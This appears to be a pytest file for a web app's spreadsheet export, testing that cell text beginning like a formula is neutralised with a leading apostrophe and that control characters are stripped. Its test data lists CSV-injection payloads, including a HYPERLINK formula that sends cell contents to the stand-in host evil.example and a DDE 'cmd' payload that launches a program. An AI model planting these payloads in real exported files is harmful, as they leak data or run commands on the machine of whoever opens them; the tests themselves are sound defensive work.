"""web/spreadsheets.py: downloads that cannot be turned against the person who opens them,
read back with openpyxl and csv."""

from __future__ import annotations

import pytest

from tests.sheets import csv_rows, formulas_in_csv, formulas_in_xlsx, xlsx_cells
from web.responses import spreadsheet

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_spreadsheet_text_starting_like_a_formula_is_inert(fmt):
    response = await spreadsheet("x", ["标题"], [[text] for text in ATTACKS], fmt)
    found = formulas_in_csv(response.content) if fmt == "csv" else formulas_in_xlsx(response.content)
    assert found == []
    values = (
        [r[0] for r in csv_rows(response.content)[1:]]
        if fmt == "csv"
        else [r[0][0] for r in xlsx_cells(response.content)[1:]]
    )
    assert values == ["'" + text for text in ATTACKS]  # shown as typed, after the apostrophe


async def test_spreadsheet_xlsx_text_cells_are_strings_and_numbers_stay_numbers():
    response = await spreadsheet("x", ["评分", "评语"], [[4, "=1+1"], [-3, "很实用"], [2.5, "1+1"]], "xlsx")
    rows = xlsx_cells(response.content)
    assert rows[1] == [(4, "n"), ("'=1+1", "s")]
    assert rows[2] == [(-3, "n"), ("很实用", "s")]
    assert rows[3] == [(2.5, "n"), ("1+1", "s")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_spreadsheet_control_characters_in_stored_text_do_not_break_the_file(fmt):
    stored = "好\x00\x01\x08\x0b\x0c\x1b\x7f\x85\ufffe\uffff\ud800评\u202e语\n第二行\t完"
    response = await spreadsheet("x", ["评语"], [[stored]], fmt)
    value = csv_rows(response.content)[1][0] if fmt == "csv" else xlsx_cells(response.content)[1][0][0]
    assert value.replace("\r\n", "\n") == "好评语\n第二行\t完"
